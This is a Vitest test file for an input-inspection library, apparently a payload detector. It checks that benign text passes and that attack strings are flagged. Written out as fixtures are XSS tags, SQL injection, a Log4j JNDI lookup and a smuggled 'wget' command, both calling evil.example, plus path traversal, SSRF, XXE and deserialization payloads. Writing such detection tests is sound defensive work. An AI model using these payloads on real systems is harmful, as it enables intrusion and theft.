import { describe, expect, it } from "vitest";
import { charClasses } from "../../src/core/char-class.ts";
import { createInspector } from "../../src/index.ts";
import { leafContext, withoutCode } from "../../src/inspect/rules/context.ts";
import { BENIGN } from "./benign.ts";

const inspector = await createInspector();

async function verdictOf(value: string): Promise<string> {
  const { verdict } = await inspector.inspect({
    contentType: "application/json",
    body: JSON.stringify({ note: value }),
  });
  return verdict;
}

it("has at least 150 strings that come close to attacks", () => {
  expect(Object.values(BENIGN).flat().length).toBeGreaterThanOrEqual(150);
});

describe.each(Object.entries(BENIGN))("%s pass", (_, strings) => {
  it.each(strings)("%j", async (text) => {
    expect(await verdictOf(text)).toBe("pass");
  });
});

it.each([
  ["cus_358b05c80a469d", "identifier"],
  ["12.50", "number"],
  ["2026-01-02T03:04:05Z", "date"],
  ["https://example.com/a?b=c", "url"],
  ["x' or 1=1", "other"],
  ["The parcel came yesterday and nobody was at home.", "prose"],
  ["<p>The parcel came yesterday and nobody was at home.</p>", "markup"],
  ["The parcel `P-7` came yesterday and nobody was at home.", "markdown"],
  ["const a = first();\nif (a) {\n  second(a);\n}\nreturn a;\n", "code"],
  ["' UNION SELECT a, b FROM staff WHERE x LIKE 'y' -- ", "other"],
])("%j is %s", (value, context) => {
  expect(leafContext(value, charClasses(value))).toBe(context);
});

it("code in Markdown is fences, spans and indented blocks", () => {
  const text = "Run `a` now:\n\n```sh\nb\n```\n\nor\n\n    c\n\nend";
  expect(withoutCode(text, charClasses(text)).replaceAll(/\s+/g, " ")).toBe("Run now: or end");
});

const PROSE = (attack: string): string => `The customer wrote ${attack} and then asked us to send the parcel again.`;
const SPAN = (attack: string): string => `The customer wrote \`${attack}\` and then asked us to send the parcel again.`;

it.each([
  "<script>go()</script>",
  "<img src=x onerror=go()>",
  "' OR 1=1--",
  "1 UNION ALL SELECT login, pass FROM staff",
  "${jndi:ldap://evil.example/a}",
  "{{7*7}}",
  "{{config.items()}}",
  "__proto__[admin]=1",
  "%2e%2e%2fetc%2fpasswd",
  "x; wget http://evil.example/x",
  "http://169.254.169.254/latest/meta-data/",
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]>',
  'O:8:"Customer":1:{s:4:"name";s:1:"x";}',
])("%s is an attack in a sentence too", async (attack) => {
  expect(await verdictOf(PROSE(attack))).not.toBe("pass");
});

it.each(["SELECT name FROM users", "../../docs/guide.md", "/etc/hosts", "alert(1)", "http://10.0.0.1/"])(
  "%s is an attack alone or in an identifier's place, but no more than mentioned in a sentence",
  async (text) => {
    expect(await verdictOf(PROSE(text))).toBe("pass");
  },
);

it("script in backquotes of a text is a quotation, outside it is script", async () => {
  expect(await verdictOf(SPAN("<script>go()</script>"))).toBe("pass");
  expect(await verdictOf(`${SPAN("<script>")} <script>go()</script>`)).not.toBe("pass");
  expect(await verdictOf("`<script>go()</script>`")).not.toBe("pass");
});

it("a look-up of Log4j counts even in backquotes, since logging is enough", async () => {
  expect(await verdictOf(SPAN("${jndi:ldap://evil.example/a}"))).not.toBe("pass");
});

it("a path that is declared as text knows no backquotes", async () => {
  const declared = await createInspector({
    vendors: { acme: { upstream: "https://api.acme.example", paths: [{ path: "$.note", as: "text" }] } },
  });
  const body = JSON.stringify({ note: SPAN("<script>go()</script>") });
  const { verdict } = await declared.inspect({ vendor: "acme", contentType: "application/json", body });
  expect(verdict).not.toBe("pass");
});
